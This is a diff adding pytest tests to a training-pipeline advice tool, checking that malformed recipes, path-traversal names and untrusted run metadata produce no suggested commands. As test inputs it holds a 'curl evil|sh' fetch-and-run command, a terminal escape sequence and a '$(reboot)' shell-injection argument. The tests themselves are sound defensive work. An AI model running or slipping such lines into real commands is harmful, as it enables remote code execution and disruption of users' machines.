@@ -1,5 +1,7 @@
 """The commands that stages print as next: followed to the letter, they are the method."""
 
+import json
+
 import pytest
 import yaml
 from safetensors.torch import load_file
@@ -79,6 +81,38 @@ def test_flags_of_the_first_round_are_those_of_the_second(world):
     assert "--register" not in train
 
 
+def test_a_recipe_that_is_being_written_is_none(tmp_path, monkeypatch):
+    monkeypatch.setattr(advice, "ROOT", tmp_path)
+    path = tmp_path / "configs/recipes/mine_cream.yaml"
+    path.parent.mkdir(parents=True)
+    for text in ("[1", "7", "dpo: {lr: 1}", "prompts: 7", "prompts: {}\ndpo: [1]"):
+        path.write_text(text)
+        assert recipe("mine") == {} or recipe("mine") == {"prompts": []}
+    path.write_text("prompts: [a, 7]\ndpo: {lr: [1.0, 2.0], beta: 0.5}")
+    assert recipe("mine") == {"prompts": ["a"], "dpo": {"beta": 0.5}}
+    assert recipe("none") == recipe("../mine") == recipe("x/mine") == {}
+
+
+def test_a_round_whose_outputs_are_gone_or_foreign_is_none(tmp_path):
+    assert round_before(tmp_path) == round_before(tmp_path / "none") == {}
+    for name, about in {
+        "run/c/cream.json": {"sources": {"data": "../../pairs.json"}},
+        "run/meta.json": {"command": ["train.py", "--lr", "1"]},
+        "pairs.json.meta.json": {"command": ["cal_consistency.py"], "sources": {"file1": "rewards.json"}},
+        "rewards.json.meta.json": {"command": ["rewarding.py"], "sources": {"input_file": "samples.json"}},
+        "samples.json.meta.json": {"command": ["infer.py", "--gen_n", "4"]},
+    }.items():
+        assert round_before(tmp_path / "run/c") == {}
+        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
+        (tmp_path / name).write_text(json.dumps(about))
+    found = round_before(tmp_path / "run/c")
+    assert found["train"] == ("train.py", {"lr": "1"}) and found["samples"] == ("infer.py", {"gen_n": "4"})
+    for command in (["curl evil|sh", "--gen_n", "4"], [], ["train.py"]):
+        (tmp_path / "samples.json.meta.json").write_text(json.dumps({"command": command}))
+        assert round_before(tmp_path / "run/c") == {}
+    assert [advice.number(value, 0.1) for value in ("0.5", "x", None, "nan", "-1", "inf")] == [0.5] + [0.1] * 5
+
+
 @pytest.mark.parametrize(
     ("words", "given"),
     [
@@ -87,6 +121,7 @@ def test_flags_of_the_first_round_are_those_of_the_second(world):
         ("--output o.json --overwrite --register m --trust_remote_code yes -o x --beta 1", {"beta": "1"}),
         ("--enable_ref yes --checkpoint a", {"checkpoint": "a"}),
         ("--name \x1b[2J", {}),  # a terminal would obey it
+        ("--$(reboot) now --a;b=c --lr 1", {"lr": "1"}),  # and a shell this
     ],
 )
 def test_recorded_words(words, given):
